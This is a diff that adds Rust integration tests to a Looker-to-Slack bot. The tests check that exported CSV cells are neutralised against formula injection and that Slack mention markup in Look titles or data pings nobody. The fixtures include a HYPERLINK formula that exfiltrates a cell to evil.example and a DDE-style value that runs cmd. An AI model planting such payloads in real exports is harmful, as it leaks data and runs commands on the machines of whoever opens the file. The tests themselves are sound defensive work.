@@ -141,6 +141,35 @@ async fn a_cut_table_brings_the_full_result_as_csv_when_allowed() {
     assert_eq!(files[0].shared_to.as_deref(), Some("C0000GENERAL"));
 }
 
+/// A value someone typed into a source system reaches the CSV a colleague opens in a
+/// spreadsheet: it is text there, never a formula.
+#[tokio::test]
+async fn a_value_that_is_a_formula_is_only_text_in_the_attached_csv() {
+    let app = spawn_app_with(|s| {
+        s.lookerbot_table_max_rows = Some("1".into());
+        s.lookerbot_attach_csv = Some("true".into());
+    })
+    .await;
+    let rows = [
+        ("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", 1),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", 2),
+        ("-3", 3),
+    ];
+    deliver_look(&app, "/slack/post/channel/general", "table", status_counts(&rows)).await;
+    let files = app.slack.files();
+    let csv = String::from_utf8(files[0].bytes.clone().unwrap()).unwrap();
+    let cells: Vec<&str> = csv.lines().skip(1).map(|l| l.rsplit_once(',').unwrap().0).collect();
+    assert_eq!(
+        cells,
+        [
+            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\"",
+            "'@SUM(1+1)*cmd|' /C calc'!A0",
+            "-3"
+        ],
+        "{csv}"
+    );
+}
+
 #[tokio::test]
 async fn a_filtered_schedule_runs_its_own_query_and_links_to_the_schedule() {
     let app = spawn_app().await;
@@ -278,4 +307,45 @@ async fn a_deleted_look_ends_dead_without_posting_anything() {
         dead[0].last_error
     );
     assert_eq!(dead[0].summary, "scheduled Look 'Gone' to #general");
+}
+
+/// A Look's title and its data are Looker users' words: neither the blocks nor the notification
+/// text Slack shows from `text` may ping a channel or a person.
+#[tokio::test]
+async fn a_title_or_value_carrying_a_mention_pings_nobody() {
+    for vis in ["table", "single_value", "looker_single_record"] {
+        let app = spawn_app().await;
+        let title = "<!channel> Orders <@U000000ALICE>";
+        app.looker.add_look(
+            "7",
+            title,
+            query("q7", vis),
+            status_counts(&[("<!here> call me", 1), ("<!subteam^S0123ABCD> x", 2)]),
+        );
+        let mut body = look_webhook(&app.looker, "7", title, None);
+        body["scheduled_plan"]["title"] = serde_json::json!(title);
+        app.deliver("/slack/post/channel/general", &body).await;
+        app.drain_jobs().await;
+        // Slack reads markup in `text` and in mrkdwn objects; raw_text, plain_text and rich text
+        // elements it shows as they are.
+        fn mrkdwn(value: &Value, out: &mut String) {
+            match value {
+                Value::Object(map) if map.get("type") == Some(&Value::from("mrkdwn")) => {
+                    out.push_str(map["text"].as_str().unwrap_or_default());
+                }
+                Value::Object(map) => map.values().for_each(|v| mrkdwn(v, out)),
+                Value::Array(items) => items.iter().for_each(|v| mrkdwn(v, out)),
+                _ => {}
+            }
+        }
+        let messages = app.slack.messages();
+        assert!(!messages.is_empty(), "{vis}");
+        for message in messages {
+            let mut read = message.text.clone();
+            mrkdwn(&message.blocks, &mut read);
+            for live in ["<!channel>", "<!here>", "<@U000000ALICE>", "<!subteam"] {
+                assert!(!read.contains(live), "{vis}: {live} in {read}");
+            }
+        }
+    }
 }
